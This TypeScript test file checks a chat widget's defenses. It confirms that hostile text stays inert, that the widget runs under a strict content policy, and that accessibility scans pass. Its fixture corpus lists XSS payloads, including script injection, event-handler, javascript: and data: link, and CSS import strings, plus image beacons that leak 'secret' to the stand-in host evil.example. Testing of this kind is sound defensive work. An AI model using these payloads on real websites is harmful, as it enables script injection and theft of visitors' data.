import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { readFile } from 'node:fs/promises';
import type { AxeResults } from 'axe-core';
import { until } from '../support/eventually.js';
import { WidgetFixture } from './fixture.js';
import { DESKTOP, PHONE, WidgetPage } from './widget-page.js';

let fixture: WidgetFixture;
beforeAll(async () => {
  fixture = await WidgetFixture.create();
});
beforeEach(() => fixture.restart());
afterAll(() => fixture.destroy());

const CORPUS = [
  '<script>window.pwned = 1</script>',
  '<img src=x onerror="window.pwned = 1">',
  '<img src="https://evil.example/leak?d=secret">',
  '<svg/onload=window.pwned=1>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<a href="javascript:window.pwned=1">click</a>',
  '<style>@import url(https://evil.example/x.css);*{background:url(https://evil.example/y)}</style>',
  '<form action="https://evil.example"><input autofocus onfocus="window.pwned=1"></form>',
  '"><script>window.pwned=1</script>',
  '[click](javascript:window.pwned=1)',
  '[click](JaVaScRiPt:window.pwned=1)',
  '[click](\tjavascript:window.pwned=1)',
  '[click](data:text/html,<script>window.pwned=1</script>)',
  '[click](vbscript:msgbox(1))',
  '[click](//evil.example/x)',
  '![pixel](https://evil.example/leak?d=secret)',
  '![pixel][ref]\n\n[ref]: https://evil.example/leak?d=secret',
  '<b onmouseover=window.pwned=1>**bold**</b>',
  '&lt;script&gt;window.pwned=1&lt;/script&gt;',
  '{{constructor.constructor("window.pwned=1")()}}',
];

/** Elements that text must never become, and links other than to web pages, mail and phone. */
const CREATED = `(() => {
  const root = document.querySelector('frontdesk-widget').shadowRoot;
  const bad = [...root.querySelectorAll('script, img, iframe, style, object, embed, input, base, meta, link')];
  const links = [...root.querySelectorAll('a')].filter(
    (link) => !/^(https?:|mailto:|tel:)/.test(link.href) || !link.rel.includes('noopener') || link.target !== '_blank');
  const handlers = [...root.querySelectorAll('*')].filter((node) => [...node.attributes].some((a) => /^on/.test(a.name)));
  return [...bad, ...links, ...handlers].map((node) => node.outerHTML);
})()`;

describe('hostile text', () => {
  test.each(['answer', 'visitor', 'source'])('in %s stays text', async (place) => {
    fixture.pace = 0;
    fixture.answer = (text) => {
      const payload = CORPUS[Number(text.split(' ')[0])] ?? '';
      if (place === 'visitor') return { text: 'Thanks.' };
      if (place === 'answer') return { text: payload };
      return { text: 'See', citations: [{ kind: 'article', id: 'a', title: payload, url: hrefIn(payload) }] };
    };
    const widget = await fixture.visit();
    let dialogs = 0;
    widget.page.on('dialog', (dialog) => {
      dialogs += 1;
      void dialog.dismiss();
    });
    await widget.open();
    for (const [index, payload] of CORPUS.entries()) {
      await widget.ask(place === 'visitor' ? payload : `${index} please`);
    }
    expect(await widget.page.evaluate(CREATED)).toEqual([]);
    expect(await widget.page.evaluate('window.pwned')).toBeUndefined();
    expect(dialogs).toBe(0);
    expect(widget.foreign).toEqual([]);
    expect(widget.complaints).toEqual([]);
    const shown = (await widget.log.innerText()).replaceAll(/\s+/g, ' ');
    expect(shown).toContain('<script>window.pwned = 1</script>');
  });

  test('in the configuration and a problem document stays text', async () => {
    const hostile = '<img src=x onerror="window.pwned=1">';
    await fixture.restart({ config: { name: hostile, greeting: hostile, color: 'red;} * {display:none' } });
    const widget = await fixture.visit();
    await widget.open();
    fixture.standIn.refuseOnce('POST messages', { status: 422, code: 'invalid', detail: hostile });
    await widget.say('hello');
    await widget.log.getByText('Not sent.', { exact: false }).waitFor();
    expect(await widget.page.evaluate(CREATED)).toEqual([]);
    expect(await widget.page.evaluate('window.pwned')).toBeUndefined();
    expect(await widget.log.innerText()).toContain(hostile);
  });
});

/** A hostile link target for a source. */
function hrefIn(payload: string): string {
  return /(?:\(|href=")([^")]+)/.exec(payload)?.[1] ?? payload;
}

describe('on another origin, under a strict content policy', () => {
  const pages = new Map<string, { page: string; policy: string }>();
  const host = createServer((request, response) => {
    const found = pages.get(request.url ?? '');
    response.writeHead(found ? 200 : 204, {
      'content-type': 'text/html',
      'content-security-policy': found?.policy ?? '',
    });
    response.end(found?.page);
  });
  beforeAll(() => new Promise<void>((resolve) => host.listen(0, '127.0.0.1', resolve)));
  afterAll(() => {
    host.closeAllConnections();
    host.close();
  });

  async function visitHost(): Promise<WidgetPage> {
    const { url, key } = fixture.standIn;
    const policy = [
      "default-src 'none'",
      `script-src ${url}`,
      `connect-src ${url}`,
      "require-trusted-types-for 'script'",
      'trusted-types frontdesk',
    ].join('; ');
    const page = `<!doctype html><html lang="fr"><title>Shop</title><body><h1>Shop</h1>
      <script src="${url}/widget.js" data-key="${key}" async></script></body></html>`;
    pages.set('/shop', { page, policy });
    const address = `http://127.0.0.1:${(host.address() as AddressInfo).port}/shop`;
    return WidgetPage.visit(await fixture.context(), address, [new URL(url).host]);
  }

  test('one tag is enough, in the language of the page', async () => {
    const widget = await visitHost();
    await widget.open();
    expect(await widget.ask('bonjour')).toBe('You said: bonjour');
    expect(await widget.input.getAttribute('placeholder')).toBe('Écrire un message…');
    expect(widget.complaints).toEqual([]);
    expect(widget.foreign).toEqual([]);
    expect(fixture.standIn.seen.at(-1)?.origin).toBe(new URL(widget.page.url()).origin);
  });

  test('comes back when the shop replaces its body', async () => {
    const widget = await visitHost();
    await widget.open();
    await widget.ask('bonjour');
    await widget.page.evaluate('document.body.replaceWith(document.createElement("body"))');
    await widget.launcher.waitFor();
    expect(await widget.history()).toHaveLength(2);
    await widget.page.evaluate('document.body.replaceChildren()');
    await widget.launcher.waitFor();
    expect(await widget.ask('encore')).toBe('You said: encore');
  });

  test('does not change the page: no style, no cookie, one global', async () => {
    const widget = await visitHost();
    await until('the app', () => widget.page.evaluate<boolean>('window.Frontdesk.queue.length === 0'));
    expect(await widget.page.evaluate('document.cookie')).toBe('');
    expect(
      await widget.page.evaluate('document.styleSheets.length + document.adoptedStyleSheets.length'),
    ).toBe(0);
  });
});

describe('axe finds no serious or critical violation', () => {
  const cases = [
    { shop: 'cedar-clay', viewport: DESKTOP },
    { shop: 'cedar-clay', viewport: PHONE },
    { shop: 'noor-books', viewport: DESKTOP },
    { shop: 'kiezrad', viewport: PHONE },
  ];

  test.each(cases)('$shop at $viewport.width px, closed and open', async ({ shop, viewport }) => {
    const config = { color: shop === 'kiezrad' ? '#ffd331' : '#c96f4a' };
    await fixture.restart({ config });
    fixture.answer = (text) => ({
      text: '**Yes**, see https://example.com/delivery',
      citations: [{ kind: 'product', id: 'p', title: 'Mug', url: 'https://example.com/mug' }],
      ...(text === 'fail' ? { failAfter: 1 } : {}),
    });
    const widget = await fixture.visit({ shop, viewport });
    expect(await violations(widget)).toEqual([]);
    await widget.open();
    expect(await violations(widget)).toEqual([]);
    await widget.ask('one');
    fixture.standIn.latest.resolve();
    await widget.panel.locator('.star').nth(2).click();
    await widget.panel.locator('.rating form').waitFor();
    expect(await violations(widget)).toEqual([]);
    await widget.say('fail');
    await until('a failure', async () => (await widget.panel.locator('.trouble').innerText()) !== '');
    fixture.standIn.away = true;
    await widget.say('two');
    await until('a lost connection', async () => (await widget.banner.innerText()) !== '');
    expect(await violations(widget)).toEqual([]);
  });
});

async function violations(widget: WidgetPage): Promise<string[]> {
  await widget.page.evaluate(await readFile(require.resolve('axe-core/axe.min.js'), 'utf8'));
  const { violations: found } = await widget.page.evaluate<AxeResults>('axe.run()');
  return found
    .filter(({ impact }) => impact === 'serious' || impact === 'critical')
    .flatMap(({ id, nodes }) =>
      nodes.map((node) => `${id}: ${node.target.join(' ')} ${node.failureSummary ?? ''}`),
    );
}
